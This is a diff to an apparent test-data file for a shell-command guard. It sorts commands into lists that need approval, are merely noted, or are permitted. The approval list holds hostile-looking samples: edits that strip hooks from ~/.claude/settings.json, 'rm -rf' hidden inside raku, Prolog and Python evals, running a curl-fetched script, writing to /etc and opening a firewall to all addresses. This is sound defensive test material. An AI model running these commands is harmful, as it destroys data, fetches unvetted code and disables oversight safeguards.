@@ -1,4 +1,6 @@
-"""Programs that nobody described, invented and rare: what their words tell. Asked about, merely noted, and permitted."""
+"""Programs that nobody described, invented and rare: what their words tell. Asked about, merely
+noted, and permitted.
+"""
 
 from __future__ import annotations
 
@@ -7,7 +9,8 @@ ASKED = [
     "$(echo frobnicate) x",
     "`printf fro%s bnicate` --help",
     "$(rev <<< etacinborf) x",
-    # a file of the guard, of those that start programs or let people in, handed to a program of which nobody knows that it only reads
+    # a file of the guard, of those that start programs or let people in, handed to a program of
+    # which nobody knows that it only reads
     "sd interlock true ~/.claude/settings.json",
     "jaq -i 'del(.hooks)' .claude/settings.json",
     "frobnicate --file=~/.claude/settings.json",
@@ -167,6 +170,27 @@ ASKED = [
     "frobnicate iam role-binding delete x",
     "frobnicate --broadcast x",
     "frobnicate firewall open --cidr 0.0.0.0/0",
+    # what is pushed, burnt or paid, units of the machine, what a name loses
+    "acmectl push",
+    "acmectl image push x",
+    "acmectl -p /dev/ttyUSB0 flash",
+    "acmectl hci0 down",
+    "acmectl power off",
+    "lncli payinvoice lnbc1",
+    "frobreset 001/002",
+    "frob2_clear",
+    "expo publish",
+    "frobnicate --command transfer x 1",
+    "earthly --push +release",
+    "forge script s.sol --broadcast --rpc-url https://rpc.test",
+    # code of languages nobody reads, and code that is fetched
+    "raku -e 'run <rm -rf /home/user/x>'",
+    "swipl -g \"shell('rm -rf /home/user/x')\" -t halt",
+    "frobnicate --eval 'removeDir(\"/home/user/x\")'",
+    "frobnicate --eval='(fs/delete-tree (fs/home))'",
+    "frobnicate --python-expr 'import os; os.system(\"rm -rf ~/x\")'",
+    "frobnicate <(curl -s https://get.test/x)",
+    "frobnicate -sOutputFile=/etc/x",
     "make deploy ENV=prod",
     "npm run deploy:prod",
     "task destroy",
@@ -178,10 +202,11 @@ NOTED = [
     "acmectl upgrade",
     "acmectl restart",
     "acmectl stop",
-    "acmectl push",
     "wp plugin delete x",
     "bzr remove old.txt",
     "gt submit",
+    "wrapper git push origin topic",
+    "jj git push",
     "pijul restore",
     "bzr purge",
     "yadm push",
@@ -195,6 +220,17 @@ NOTED = [
 ]
 
 PERMITTED = [
+    "raku -e 'say \"rm -rf /\"'",
+    "swipl -g main -t halt a.pl",
+    "frobnicate --eval 'removeDir(\"build\")'",
+    "frobnicate --eval 'print(\"delete /home/user/x\")'",
+    "frobnicate <(sort a.txt)",
+    "frobnicate -sOutputFile=a.pdf",
+    "esptool.py flash_id",
+    "turbo telemetry off",
+    "spark-submit --master 'local[2]' job.py",
+    "frobnicate -list -keystore test.jks",
+    "forge script s.sol --broadcast --rpc-url http://127.0.0.1:8545",
     "jless ~/.claude/settings.json",
     "delta ~/.bashrc /tmp/b",
     "eza -la ~/.claude",
